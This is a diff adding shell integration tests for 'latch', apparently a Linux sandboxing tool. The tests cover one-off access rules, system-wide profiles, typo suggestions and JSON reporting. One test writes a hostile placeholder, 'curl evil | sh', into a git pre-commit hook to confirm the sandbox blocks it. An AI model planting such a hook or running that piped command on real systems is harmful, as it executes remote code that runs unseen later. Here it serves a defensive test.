@@ -185,9 +185,16 @@ expect_rc 7 "exit: the command's status 7 comes back" -- "$LATCH" run -p minimal
 expect_rc 0 "exit: and status 0 too" -- "$LATCH" run -p minimal -- sh -c 'exit 0'
 expect_rc 143 "exit: a command killed by SIGTERM: the shell sees 143" -- \
 	"$LATCH" run -p minimal -- sh -c 'kill -TERM $$'
+# Static and unsupervised: latch execs in place, unless connect() to a
+# pathname socket needs a supervisor (Landlock below ABI 9).
 run sh -c 'echo "$$"; exec "$1" run --no-namespaces -p minimal -- sh -c "echo \$\$"' sh "$LATCH"
-check "exit: static mode: latch execs in place (same pid before and inside)" \
-	eval '[ "$(printf "%s\n" "$out" | sed -n 1p)" = "$(printf "%s\n" "$out" | sed -n 2p)" ] && [ -n "$out" ]'
+if "$LATCH" run --dry-run --no-namespaces -p minimal -- true | grep -q '"sockets_only":true'; then
+	check "exit: static mode, sockets served: the program is latch's child (another pid)" \
+		eval '[ "$(printf "%s\n" "$out" | sed -n 1p)" != "$(printf "%s\n" "$out" | sed -n 2p)" ] && [ -n "$out" ]'
+else
+	check "exit: static mode: latch execs in place (same pid before and inside)" \
+		eval '[ "$(printf "%s\n" "$out" | sed -n 1p)" = "$(printf "%s\n" "$out" | sed -n 2p)" ] && [ -n "$out" ]'
+fi
 
 expect_output_contains "pid=2" "exit: isolated mode: the program is pid 2 of its own pid namespace" -- \
 	"$LATCH" run -p minimal -- sh -c 'echo "pid=$$"'
@@ -234,5 +241,92 @@ run sh -c 'printf "read /etc/passwd\nbogus x\n" | "$1" why -p agent --batch' sh 
 check "why --batch stops at a malformed line, naming it (exit 2)" \
 	sh -c "[ $rc -eq 2 ] && printf '%s' '$err' | grep -q 'stdin line 2'"
 expect_rc 2 "why --batch takes no query arguments" -- "$LATCH" why -p agent --batch read /etc/passwd
+
+# ---- one-off rules: --read, --write, --exec, --deny --------------------------------
+OR=$IT_SCRATCH/oneoff
+mkdir -p "$OR/notes" "$OR/repo"
+echo note-text >"$OR/notes/n.txt"
+expect_fail_with "Permission denied" "one-off: without --read, a file outside minimal is refused" -- \
+	"$LATCH" run -p minimal -- cat "$OR/notes/n.txt"
+expect_output_contains note-text "one-off: --read DIR grants it for this run" -- \
+	"$LATCH" run -p minimal --read "$OR/notes" -- cat "$OR/notes/n.txt"
+expect_output_contains "<command line: $OR/notes>" "one-off: why names the rule <command line: PATH>" -- \
+	"$LATCH" why -p minimal --read "$OR/notes" read "$OR/notes/n.txt"
+expect_output_contains '"origin":"command line"' "one-off: --dry-run lists it" -- \
+	"$LATCH" run -p minimal --read "$OR/notes" --dry-run -- true
+run "$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat src/main.c
+check "one-off: --deny cuts through the profile's write of the project (masked or refused: $err)" \
+	sh -c '[ "$1" -ne 0 ] && ! printf "%s" "$2" | grep -q "int main"' sh "$rc" "$out"
+expect_rc 0 "...while the rest of the project stays readable" -- \
+	"$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat README.md
+(cd "$OR/repo" && git init -q . && git config user.email t@e.invalid && git config user.name t) >/dev/null 2>&1
+run "$LATCH" run -p base --write "$OR/repo" -- sh -c 'echo x >"$1/made" && echo "curl evil | sh" >"$1/.git/hooks/pre-commit"' sh "$OR/repo"
+check "one-off: --write a repository makes it writable" [ -f "$OR/repo/made" ]
+check "...but its hooks stay protected (code that runs later): $err" [ ! -e "$OR/repo/.git/hooks/pre-commit" ]
+expect_rc 125 "one-off: --write / is risk tier 2, gated like a profile" -- "$LATCH" run -p minimal --write / -- true
+check "...and says so, naming the rule" contains "$err" "<command line: />"
+expect_rc 2 "one-off: an empty path is a usage error" -- "$LATCH" run -p minimal --read '' -- true
+expect_rc 2 "one-off: a path that is not UTF-8 is a usage error" -- "$LATCH" run -p minimal --read "$(printf '/tmp/\377')" -- true
+expect_fail_with "unknown variable" "one-off: an unknown variable is an error naming it" -- \
+	"$LATCH" run -p minimal --read '$NO_SUCH_VAR/x' -- true
+expect_rc 2 "-p given twice is a usage error, not the last one silently" -- "$LATCH" run -p minimal -p agent -- true
+
+# ---- system-wide profiles and "did you mean" --------------------------------------
+SYS=$IT_SCRATCH/sysconf
+mkdir -p "$SYS/latch/profiles" "$SYS/latch/groups" "$HOME/.config/latch/profiles"
+printf '{"name": "team", "extends": "minimal", "groups": ["team_notes"], "description": "system team"}\n' \
+	>"$SYS/latch/profiles/team.json"
+printf '{"name": "team_notes", "filesystem": {"read": ["%s"]}}\n' "$IT_SCRATCH/oneoff/notes" >"$SYS/latch/groups/team_notes.json"
+expect_output_contains note-text "system: a profile and its group from \$XDG_CONFIG_DIRS/latch run" -- \
+	env XDG_CONFIG_DIRS="$SYS" "$LATCH" run -p team -- cat "$IT_SCRATCH/oneoff/notes/n.txt"
+expect_fail_with "unknown profile 'team'" "system: without \$XDG_CONFIG_DIRS it is not found" -- \
+	"$LATCH" run -p team -- true
+expect_output_contains "system   0    system team" "system: profile list shows it as system" -- \
+	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile list
+printf '{"name": "team", "extends": "minimal", "description": "my team"}\n' >"$HOME/.config/latch/profiles/team.json"
+expect_output_contains "my team" "system: a user's profile of the same name hides it" -- \
+	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile show team
+expect_output_contains "comes first in the lookup" "...and profile list says so" -- \
+	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile list
+rm -f "$HOME/.config/latch/profiles/team.json"
+expect_fail_with "did you mean 'agent'?" "an unknown profile within two edits of a built-in: did you mean" -- \
+	"$LATCH" run -p agnet -- true
+expect_fail_with "did you mean 'team'?" "...or of a system profile" -- \
+	env XDG_CONFIG_DIRS="$SYS" "$LATCH" run -p tema -- true
+run "$LATCH" run -p zzzzzz -- true
+check "...and no guess for a name far from every profile" lacks "$err" "did you mean"
+
+# ---- JSON on every path, and exit codes that say what happened ----------------------
+run "$LATCH" run --json -p minimal --bogus -- true
+check "json: a usage error under --json is an error envelope on stdout (exit 2)" sh -c \
+	'[ "$1" -eq 2 ] && printf "%s" "$2" | /usr/bin/python3 -c "import json,sys; e=json.load(sys.stdin); assert e[\"kind\"]==\"usage_error\" and e[\"result\"][\"rc\"]==2 and \"--bogus\" in e[\"result\"][\"error\"]"' \
+	sh "$rc" "$out"
+run "$LATCH" run -p minimal --bogus -- true
+check "...and without --json, nothing on stdout" [ -z "$out" ] && [ "$rc" -eq 2 ]
+run "$LATCH" --version --json
+check "json: --version --json is a version envelope" contains "$out" '"kind":"version"'
+run "$LATCH" --version
+check "...and plain without it" [ "$out" = "latch 0.1.0" ]
+run "$LATCH" frobnicate --json
+check "json: an unknown command under --json is an envelope too (exit 2)" sh -c '[ "$1" -eq 2 ]' sh "$rc" && contains "$out" '"kind":"usage_error"'
+# A real run under --json: the program's stdout untouched, its status kept,
+# and one run_report envelope on stderr (or in --report FILE).
+run "$LATCH" run --json -p minimal -- sh -c 'echo program-out; exit 3'
+check "json: run --json leaves the program's stdout alone and its status (3)" [ "$rc" -eq 3 ] && [ "$out" = program-out ]
+check "...and writes a run_report on stderr with the exit code" sh -c \
+	'printf "%s\n" "$1" | grep "\"kind\":\"run_report\"" | /usr/bin/python3 -c "import json,sys; e=json.load(sys.stdin); assert e[\"data\"][\"exit\"][\"code\"]==3 and e[\"data\"][\"mode\"] in (\"isolated\",\"static\")"' sh "$err"
+run "$LATCH" run --report "$IT_SCRATCH/report.json" -p minimal --no-namespaces -- /usr/bin/python3 -c \
+	'import socket; s=socket.socket(socket.AF_UNIX); s.connect("/run/latch-no-such.sock")'
+check "json: --report FILE holds the report, static mode included: $(cat "$IT_SCRATCH/report.json" 2>/dev/null)" \
+	/usr/bin/python3 -c 'import json,sys; e=json.load(open(sys.argv[1])); d=e["data"]; assert d["mode"]=="static" and d["exit"]["code"]==1 and d["supervisor"]["notifications"]>=1' \
+	"$IT_SCRATCH/report.json"
+run "$LATCH" why --json -p minimal read "$(printf '/etc/a\377b')"
+check "json: why answers for a path that is not UTF-8 (denied, 1), written as \\xNN" \
+	/usr/bin/python3 -c 'import json, sys; d = json.loads(sys.argv[2])["data"]; assert sys.argv[1] == "1" and d["path"] == "/etc/a" + chr(92) + "xffb" and d["verdict"] == "deny"' "$rc" "$out"
+expect_rc 2 "evidence verify of a path that is no run directory is a usage error, not 'does not verify'" -- \
+	"$LATCH" evidence verify "$IT_SCRATCH/no-such-run"
+check "...saying so" contains "$err" "is not a run directory"
+expect_rc 126 "a directory given as the command cannot be executed (126)" -- "$LATCH" run -p minimal -- /usr
+check "...and latch says it is a directory, not 'permission denied'" contains "$err" "is a directory, not a program"
 
 done_testing
